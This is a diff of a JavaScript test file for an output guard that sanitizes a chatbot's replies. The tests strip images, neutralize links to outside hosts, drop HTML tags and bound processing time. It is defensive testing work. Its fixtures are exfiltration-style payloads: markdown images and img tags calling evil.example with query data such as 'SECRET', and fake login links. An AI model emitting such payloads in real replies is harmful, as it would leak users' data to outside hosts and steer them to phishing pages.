@@ -26,19 +26,21 @@ describe('the output guard', () => {
     expect(en(raw)).toBe('red link okX\nnext\tcol');
   });
 
-  it('removes every image whose URL is not in the knowledge folder, however it is written', () => {
+  it('removes every image, however it is written', () => {
     const raw =
-      'See ![chart](https://evil.example/c.png?q=SECRET) and ![x][ref] and <img src="http://evil.example/p?d=1"> and ![local](/img.png "t").\n[ref]: https://evil.example/r';
+      'See ![chart](https://evil.example/c.png?q=SECRET) and ![x][ref] and <img src="http://evil.example/p?d=1"> and ![local](/img.png "t").\n\n[ref]: https://evil.example/r';
     expect(en(raw)).toBe('See  and  and  and .');
+    // Even one whose URL the knowledge folder holds: an image makes the visitor's browser fetch it.
+    expect(en('![pic](https://example.com/projects)')).toBe('');
   });
 
   // Regression (issue 15.2): markdown links to any outside host reached the visitor.
   it('turns links to URLs the knowledge folder does not hold into their plain text', () => {
     const raw =
       'Log in [here](https://evil.example/login "Sign in"), see [docs][d], <https://evil.example/x>, ' +
-      '<a href="https://evil.example/a">click</a>, but [GitHub](https://github.com/ana) stays.\n[d]: https://evil.example/docs';
-    expect(en(raw)).toBe('Log in here, see docs, https://evil.example/x, click, but [GitHub](https://github.com/ana) stays.');
-    expect(en('![pic](https://example.com/projects)')).toBe('![pic](https://example.com/projects)');
+      '<a href="https://evil.example/a">click</a>, but [GitHub](https://github.com/ana) stays.\n\n[d]: https://evil.example/docs';
+    // A dropped URL keeps its text without the scheme, so no renderer links it again.
+    expect(en(raw)).toBe('Log in here, see docs, evil.example/x, click, but [GitHub](https://github.com/ana) stays.');
   });
 
   it('replaces a reply carrying the marker with the fixed refusal in the request language', () => {
@@ -92,8 +94,8 @@ describe('the output guard', () => {
     expect(out.startsWith('x'.repeat(3985))).toBe(true);
   });
 
-  it('drops HTML link tags around other markup, and stays quick on a hostile reply of the full byte cap', () => {
-    expect(en('<a href="https://evil.example"><b>go</b></a> <img alt=x src=https://evil.example/p.png>')).toBe('<b>go</b></a>');
+  it('drops every HTML tag, keeping the text between, and stays quick on a hostile reply of the full byte cap', () => {
+    expect(en('<a href="https://evil.example"><b>go</b></a> <img alt=x src=https://evil.example/p.png>')).toBe('go');
     for (const hostile of ['['.repeat(1 << 20), '<a href=x '.repeat(1 << 17), '[x](https://evil.example/'.repeat(1 << 15)]) {
       const started = performance.now();
       expect(Array.from(en(hostile)).length).toBeLessThanOrEqual(4000);
